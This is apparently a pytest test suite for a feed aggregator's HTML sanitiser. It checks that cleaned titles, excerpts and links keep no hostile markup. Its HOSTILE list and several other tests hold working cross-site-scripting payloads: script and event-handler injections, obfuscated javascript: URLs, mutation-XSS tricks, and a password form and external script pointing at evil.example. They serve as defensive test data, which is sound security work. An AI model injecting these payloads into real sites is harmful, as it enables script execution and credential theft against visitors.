"""Sanitising foreign markup and text: hostile inputs in titles and in content never survive."""

from __future__ import annotations

import re

import pytest
from bs4 import BeautifulSoup

from soapbox.core.aggregator.sanitize import (
    LINK_REL,
    clean_html,
    excerpt,
    is_private_host,
    plain_text,
    safe_url,
    text_of,
)

BASE = "https://blog.example.com/2026/post/"

# (name, hostile HTML, text that must not survive anywhere in the output)
HOSTILE = [
    ("script", "<p>ok</p><script>window.__pwned=1</script>", "__pwned"),
    (
        "script-uppercase",
        "<p>ok</p><SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "evil.example",
    ),
    ("event-handler", '<p onclick="window.__pwned=1">ok</p>', "__pwned"),
    ("img-onerror", '<img src=x onerror="window.__pwned=1">ok', "__pwned"),
    ("javascript-link", '<a href="javascript:window.__pwned=1">ok</a>', "javascript"),
    ("javascript-obfuscated", '<a href=" JaVaScRiPt&#x3A;window.__pwned=1">ok</a>', "__pwned"),
    ("javascript-tab", '<a href="java&#x09;script:window.__pwned=1">ok</a>', "__pwned"),
    ("vbscript-link", '<a href="vbscript:msgbox(1)">ok</a>', "vbscript"),
    (
        "data-link",
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">ok</a>',
        "data:",
    ),
    ("iframe", '<iframe src="https://evil.example/"></iframe><p>ok</p>', "iframe"),
    (
        "iframe-srcdoc",
        '<iframe srcdoc="&lt;script&gt;window.__pwned=1&lt;/script&gt;"></iframe>ok',
        "__pwned",
    ),
    (
        "form",
        '<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>ok',
        "evil.example",
    ),
    ("style-element", "<style>body{display:none}</style><p>ok</p>", "display:none"),
    ("style-attribute", '<p style="position:fixed;top:0;left:0;width:100%">ok</p>', "position"),
    ("svg", '<svg onload="window.__pwned=1"><script>window.__pwned=1</script></svg>ok', "__pwned"),
    (
        "svg-animate",
        '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>ok',
        "javascript",
    ),
    ("math", "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>", "__pwned"),
    ("object", '<object data="https://evil.example/x.swf"></object>ok', "evil.example"),
    ("embed", '<embed src="https://evil.example/x.swf">ok', "evil.example"),
    (
        "meta-refresh",
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">ok',
        "evil.example",
    ),
    ("base", '<base href="https://evil.example/">ok', "evil.example"),
    (
        "link-stylesheet",
        '<link rel="stylesheet" href="https://evil.example/x.css">ok',
        "evil.example",
    ),
    (
        "tracking-pixel",
        '<img src="https://tracker.example/pixel.gif" width="1" height="1">ok',
        "tracker.example",
    ),
    (
        "image",
        '<img src="https://cdn.example/photo.jpg" width="800" height="600">ok',
        "cdn.example",
    ),
    ("comment-trick", "<!--<script>window.__pwned=1</script>-->ok", "__pwned"),
    (
        "noscript-mxss",
        '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">ok',
        "__pwned",
    ),
    ("unclosed", '<p>ok<b><i><a href="https://x.example/">', "<script"),
    ("class-and-id", '<p class="md-header" id="__next">ok</p>', "md-header"),
    ("target-blank", '<a href="https://x.example/" target="_blank">ok</a>', "_blank"),
]


@pytest.mark.parametrize(("name", "markup", "forbidden"), HOSTILE, ids=[h[0] for h in HOSTILE])
def test_hostile_content_never_survives(name, markup, forbidden):
    for output in (
        clean_html(markup, BASE),
        excerpt(markup, BASE).html,
        excerpt(markup, BASE, words=3).html,
    ):
        assert forbidden.lower() not in output.lower(), output
        soup = BeautifulSoup(output, "lxml")
        for tag in soup.find_all(True):
            assert tag.name in {"html", "body", "p", "a", "b", "i", "strong", "em", "br", "ul", "ol", "li",
                                "code", "pre", "blockquote", "div", "span", "table", "tr", "td", "tbody"}, tag.name  # fmt: skip
            for attribute in tag.attrs:
                assert attribute in ("href", "title", "rel"), attribute
            if tag.name == "a" and tag.get("href"):
                assert tag["href"].startswith(("http://", "https://"))
                assert tag["rel"] == LINK_REL.split()


@pytest.mark.parametrize(("name", "markup", "forbidden"), HOSTILE, ids=[h[0] for h in HOSTILE])
def test_hostile_titles_become_plain_text(name, markup, forbidden):
    for kind in ("html", "text"):
        title = plain_text(markup, kind)
        assert (
            "<" not in title
            or kind == "text"
            and not re.search(r"<\s*(script|img|svg|iframe|a|p|style)\b", title, re.I)
        )
        assert (
            "__pwned=1" not in title or "javascript" in markup.lower() or "noscript" in markup
        )  # attribute values are no text
        assert "\n" not in title


@pytest.mark.parametrize(
    ("value", "kind", "expected"),
    [
        ("<b>Slack</b> &amp; friends", "html", "Slack & friends"),
        ("Science &amp;amp; technology", "text", "Science & technology"),
        ("InfluxDB &#8211; Graphite", "text", "InfluxDB – Graphite"),
        ("Hi <img src=x onerror=alert(1)>there", "text", "Hi there"),
        ("<script>alert(1)</script>Title", "text", "Title"),
        ("  many\n\tspaces\u0007 here ", "text", "many spaces here"),
        ("AT&T earnings: 5 < 6", "text", "AT&T earnings: 5 < 6"),
        ("مرحبا بالعالم", "text", "مرحبا بالعالم"),
        ("Emoji 🎤 talk", "html", "Emoji 🎤 talk"),
        ("x" * 400, "text", "x" * 299 + "…"),
    ],
)
def test_plain_text(value, kind, expected):
    assert plain_text(value, kind) == expected


def test_links_are_absolute_http_with_rel():
    html = clean_html(
        '<a href="/about">a</a> <a href="//cdn.example/x">b</a> <a href="mailto:me@example.com">c</a>',
        BASE,
    )
    soup = BeautifulSoup(html, "lxml")
    links = soup.find_all("a")
    assert links[0]["href"] == "https://blog.example.com/about"
    assert links[1]["href"] == "https://cdn.example/x"
    assert not links[2].get("href")  # only http(s)
    assert all(a["rel"] == ["nofollow", "noopener", "ugc"] for a in links)
    assert not any(a.get("target") for a in links)


def test_images_only_when_asked_and_never_pixels():
    markup = (
        '<img src="https://cdn.example/a.jpg" width="640" height="480">'
        '<img src="https://cdn.example/b.jpg">'  # no size: could be anything
        '<img src="https://cdn.example/c.gif" width="1" height="1">'
        '<img src="https://feeds.feedburner.com/~r/Blog/~4/abc" width="100" height="100">'
        '<img src="data:image/png;base64,AAAA" width="50" height="50">'
    )
    assert "<img" not in clean_html(markup, BASE)
    kept = BeautifulSoup(clean_html(markup, BASE, images=True), "lxml").find_all("img")
    assert [img["src"] for img in kept] == ["https://cdn.example/a.jpg"]


def test_private_hosts_lose_their_links_when_asked():
    markup = '<a href="http://localhost:4000/x">dev</a> <a href="http://192.168.1.1/admin">router</a> <a href="https://ok.example/">ok</a>'
    soup = BeautifulSoup(clean_html(markup, BASE, private=False), "lxml")
    assert [a.get("href") for a in soup.find_all("a")] == [None, None, "https://ok.example/"]
    assert is_private_host("http://127.0.0.1:8000/") and is_private_host("http://printer.local/")
    assert not is_private_host("https://example.com/")
    assert safe_url("http://localhost:4000/post", private=False) == ""


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("https://example.com/a b", "https://example.com/a%20b"),
        ("javascript:alert(1)", ""),
        ("  https://example.com/x\n", "https://example.com/x"),
        ("ftp://example.com/file", ""),
        ("https://", ""),
        ("/relative", ""),
        ('https://example.com/"><script>', "https://example.com/%22%3E%3Cscript%3E"),
    ],
)
def test_safe_url(value, expected):
    assert safe_url(value) == expected


def test_excerpt_cuts_on_a_word_boundary_and_closes_tags():
    markup = (
        "<h2>Intro</h2><p>One <b>two three</b> four <a href='/x'>five six</a> seven</p><p>eight</p>"
    )
    cut = excerpt(markup, BASE, words=5)
    assert cut.truncated
    assert cut.html == "<p>Intro</p><p>One <b>two three</b> four…</p>"
    assert cut.text == "Intro One two three four…"
    whole = excerpt(markup, BASE, words=60)
    assert not whole.truncated and whole.text == "Intro One two three four five six seven eight"
    assert 'href="https://blog.example.com/x"' in whole.html


def test_excerpt_of_words_without_spaces_is_bounded():
    cut = excerpt("<p>" + "日本語の文章です。" * 200 + "</p>", words=10)
    assert cut.truncated and len(cut.text) <= 10 * 12 + 1


def test_excerpt_separates_blocks():
    cut = excerpt(
        "<div>alpha</div><div>beta</div><table><tr><td>gamma</td><td>delta</td></tr></table>"
    )
    assert cut.text == "alpha beta gamma delta"
    assert "alphabeta" not in cut.html and "gammadelta" not in cut.html


def test_text_of_drops_code_and_joins_blocks():
    assert text_of("<p>a</p><p>b<script>c</script></p><style>d</style>") == "a b"
